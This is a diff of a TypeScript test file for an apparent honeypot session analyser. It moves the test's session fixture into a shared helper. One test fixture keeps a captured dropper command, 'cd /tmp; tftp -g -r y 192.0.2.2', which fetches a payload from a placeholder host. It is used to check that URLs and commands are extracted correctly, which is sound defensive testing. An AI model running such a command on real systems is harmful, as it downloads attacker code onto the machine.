@@ -3,34 +3,10 @@
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
 import test from 'node:test';
+import { factView } from '../../../test/support/fact-view.ts';
 import type { Fact, FactKind } from '../../model/fact.ts';
-import type { SessionView } from '../session-view.ts';
 import { extractFacts } from './extract-facts.ts';
 import { factLimit } from './fact-list.ts';
-
-type Session = SessionView['session'];
-
-const session: Session = {
-  id: '0',
-  sequence: 0,
-  start: 1,
-  transport: 'tcp',
-  source: { ip: '198.51.100.7', port: 4 },
-  destination: { ip: '192.0.2.1', port: 80 },
-  sourceReliable: true,
-  diversion: 'd',
-  service: 'catch-all',
-  outcome: 'client-closed',
-  bytesIn: 1,
-  bytesOut: 1,
-  truncated: false,
-};
-
-const view = (input: string | Uint8Array, more: Partial<Session> = {}, output = ''): SessionView => ({
-  session: { ...session, ...more },
-  input: typeof input === 'string' ? Buffer.from(input, 'latin1') : input,
-  output: Buffer.from(output, 'latin1'),
-});
 
 type Found = Partial<Record<FactKind, string[]>>;
 
@@ -43,8 +19,7 @@ function group(facts: readonly Fact[]): Found {
   return found;
 }
 
-const facts = (input: string | Uint8Array, more: Partial<Session> = {}, output = ''): Found =>
-  group(extractFacts(view(input, more, output), []));
+const facts = (...said: Parameters<typeof factView>): Found => group(extractFacts(factView(...said), []));
 
 const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string => Buffer.from(text, encoding).toString('base64');
 const get = (target: string, headers = ''): string => `GET ${target} HTTP/1.1\r\n${headers}\r\n`;
@@ -348,7 +323,7 @@ test('what rules captured counts', () => {
     techniques: [],
     captures: { url: 'http://192.0.2.6/x', command: 'cd /tmp; tftp -g -r y 192.0.2.2', file: 'z', odd: 'w' },
   } as const;
-  assert.deepEqual(group(extractFacts(view(''), [hit])), {
+  assert.deepEqual(group(extractFacts(factView(''), [hit])), {
     url: ['http://192.0.2.6/x', 'tftp://192.0.2.2/y'],
     command: ['cd /tmp', 'tftp -g -r y 192.0.2.2'],
     file: ['z'],
